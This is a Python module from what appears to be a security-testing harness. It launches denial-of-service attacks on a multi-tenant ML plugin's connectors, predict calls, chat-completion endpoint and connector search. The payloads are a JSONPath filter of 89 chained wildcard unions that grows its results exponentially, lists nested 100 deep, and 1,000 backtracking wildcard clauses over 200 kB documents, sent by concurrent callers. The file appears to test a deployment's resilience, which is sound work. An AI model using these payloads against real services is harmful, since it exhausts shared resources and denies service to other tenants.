"""What a caller may have the server work out: filters of replies, and searches."""

from __future__ import annotations

import asyncio
import json

from attacks.target import Tally, Target, ask, say

AT_ONCE = 4
CALLS_MAX = 40
DEPTH = 100  # of what the upstream answers with
FILTER = "$.." + "[*,*,*,*]" * 89  # of 804 characters: each step has four times as many results
DOCUMENTS, DOCUMENT_BYTES, CLAUSES = 20, 200_000, 1_000
ML = "/_plugins/_ml"


def nested(depth: int = DEPTH) -> list:
    """A list in a list in a list."""
    value: list = []
    for _ in range(depth):
        value = [value]
    return value


def connector(target: Target, name: str, **parameters: str) -> dict:
    """A caller's connector, to a service that answers with what it was sent."""
    return {
        "name": name,
        "version": "1",
        "protocol": "http",
        "parameters": parameters,
        "credential": {"key": "none"},
        "actions": [
            {
                "action_type": "predict",
                "method": "POST",
                "url": f"http://127.0.0.1:{target.upstream}/echo",
                "headers": {"Authorization": "Bearer ${credential.key}"},
                "request_body": '{"text": ${parameters.text}}',
            }
        ],
    }


async def filters(target: Target, tally: Tally) -> None:
    """A JSONPath with unions of wildcards, in the tenant's own connector and in calls of a shared one."""
    key, setup = target.tenant, Tally()
    made = connector(target, "filters", response_filter=FILTER)
    _, data = await ask(target, setup, "POST", f"{ML}/connectors/_create", made, key=key)
    received = json.loads(data or b"{}")
    paths = []
    if "connector_id" in received:
        model = {"name": "filters", "function_name": "remote", "connector_id": received["connector_id"]}
        _, data = await ask(target, setup, "POST", f"{ML}/models/_register?deploy=true", model, key=key)
        paths = [f"{ML}/models/{json.loads(data).get('model_id')}/_predict"]
    else:
        tally.add(f"not made: {received}")
    text = nested()
    bodies = [(path, {"parameters": {"text": text}}) for path in paths]
    shared = {"model": "echo", "text": text, "messages": [], "response_filter": FILTER}
    bodies += [("/v1/chat/completions", shared), ("/v1/echo", shared)]

    async def caller(number: int) -> None:
        for each in range(number, CALLS_MAX, AT_ONCE):
            path, body = bodies[each % len(bodies)]
            await ask(target, tally, "POST", path, body, key=key)

    say("begun")
    await asyncio.gather(*[caller(number) for number in range(AT_ONCE)])


async def searches(target: Target, tally: Tally) -> None:
    """1,000 wildcard clauses over documents of 200 kB."""
    key, setup = target.tenant, Tally()
    for number in range(DOCUMENTS):
        made = connector(target, f"c{number}", filler="ab" * (DOCUMENT_BYTES // 2))
        await ask(target, setup, "POST", f"{ML}/connectors/_create", made, key=key)
    tally.counts.update({f"documents {what}": count for what, count in setup.counts.items()})
    clauses = [{"wildcard": {"parameters.filler": {"value": "*a*b" * 12 + f"*{n}"}}} for n in range(CLAUSES)]
    body = json.dumps({"query": {"bool": {"should": clauses}}}).encode()

    async def caller() -> None:
        for _ in range(CALLS_MAX // AT_ONCE):
            await ask(target, tally, "POST", f"{ML}/connectors/_search", body, key=key)

    say("begun")
    await asyncio.gather(*[caller() for _ in range(AT_ONCE)])
